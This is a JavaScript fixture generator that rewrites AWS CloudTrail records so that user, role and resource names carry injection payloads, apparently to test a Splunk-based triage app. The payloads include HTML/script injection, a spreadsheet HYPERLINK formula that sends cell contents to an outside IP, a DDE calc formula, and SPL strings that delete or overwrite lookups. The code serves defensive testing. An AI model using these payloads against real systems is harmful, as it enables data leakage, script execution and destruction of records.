/** A trail whose every name attacks: markup, script addresses, SPL, macros, formulas, wildcards, characters that turn text around. */
import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';

export const PAYLOADS = [
  '<img src=x onerror="window.__hit=1">',
  '"><script>window.__hit=1</script>',
  'javascript:window.__hit=1',
  '=HYPERLINK("http://198.51.100.1/"&A1,"x")',
  '+1+cmd|\' /C calc\'!A0',
  '@SUM(1,1)',
  '" | outputlookup c2c_triage | eval x="',
  '`c2c_history` | delete',
  '") OR true() | makeresults | eval y=("',
  '[ | inputlookup c2c_rules ]',
  "' onmouseover='window.__hit=1",
  '{{constructor.constructor("window.__hit=1")()}}',
  'a,b\u202egpj.exe\u0007\t%3Cscript%3E $token$ \\" \\\\',
  '*',
];

/** Names that may be anything: those of people, programs and things. */
const NAMED =
  /^(userName|userAgent|sourceIPAddress|bucketName|groupId|groupName|dBInstanceIdentifier|dBSnapshotIdentifier|snapshotId|queueUrl|keyId|name|trailName|functionName|roleName|policyName|errorMessage|description|sessionName|invokedBy)$/;

/** Reads every record of `from` and writes it with other names to `to`, one file. */
export function hostileTrail(from, to) {
  let turn = 0;
  const next = () => PAYLOADS[turn++ % PAYLOADS.length];
  const change = (value, key) => {
    if (typeof value === 'string') return NAMED.test(key) ? next() : value;
    if (Array.isArray(value)) return value.map((item) => change(item, key));
    if (value === null || typeof value !== 'object') return value;
    return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, change(inner, name)]));
  };
  const Records = [];
  for (const entry of readdirSync(from, { recursive: true, withFileTypes: true })) {
    if (!entry.name.endsWith('.json.gz')) continue;
    const bytes = readFileSync(path.join(entry.parentPath ?? entry.path, entry.name));
    for (const record of JSON.parse(gunzipSync(bytes).toString()).Records) {
      const hostile = change(record, '');
      const { userIdentity } = hostile;
      // Roles and users of the log: the actor is taken from here.
      if (userIdentity?.arn !== undefined) userIdentity.arn = `arn:aws:sts::111122223333:assumed-role/r/${next()}`;
      if (userIdentity?.principalId !== undefined) userIdentity.principalId = `AROAEXAMPLE:${next()}`;
      if (Records.length % 3 === 0) hostile.eventID = `${next()} ${Records.length}`;
      Records.push(hostile);
    }
  }
  mkdirSync(to, { recursive: true });
  writeFileSync(path.join(to, 'hostile.json'), JSON.stringify({ Records }));
}
